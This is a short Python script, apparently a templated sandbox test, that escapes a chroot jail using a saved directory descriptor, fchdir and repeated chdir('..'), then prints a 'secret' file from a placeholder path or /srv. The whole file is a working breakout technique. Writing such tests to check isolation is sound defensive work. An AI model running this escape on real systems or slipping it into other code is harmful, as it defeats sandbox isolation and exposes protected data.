import os

os.mkdir("jail")
here = os.open(".", os.O_RDONLY)
os.chroot("jail")
os.fchdir(here)
for _ in range(100):
    os.chdir("..")
os.chroot(".")
for place in ("@PLACE@", "/srv"):
    if os.path.exists(f"{place}/secret"):
        print(open(f"{place}/secret").read())
